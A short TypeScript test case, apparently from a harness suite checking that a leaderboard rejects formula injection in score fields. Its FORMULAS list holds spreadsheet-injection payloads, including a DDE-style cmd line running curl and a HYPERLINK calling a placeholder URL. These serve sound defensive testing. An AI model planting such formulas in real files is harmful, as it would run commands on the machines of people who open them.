import type { EscapeCase } from '../../case.ts'

const FORMULAS = [
  '=HYPERLINK(\\"http://127.0.0.1/TOKEN\\",\\"0.5\\")',
  "+cmd|' /C curl TOKEN'!A0",
  '@SUM(1+1)*cmd|TOKEN',
  '-2+3+TOKEN',
  '\\t=1+TOKEN',
]

export const attack: EscapeCase = {
  id: 'formulas-in-scores',
  family: 23,
  tries:
    'Writes a formula in the place of a score, which a spreadsheet would run when somebody opens the leaderboard in it.',
  plants: 'Text in formulas of five kinds.',
  defence: 'A score is a number within its range or no score; nothing else of the file is released.',
  expect: 'refused',
  quick: true,
  control: 'escapes',
  jobs: () =>
    FORMULAS.map((formula) => ({ beside: { 'scores-template.txt': `{"accuracy": "${formula}"}` } })),
}
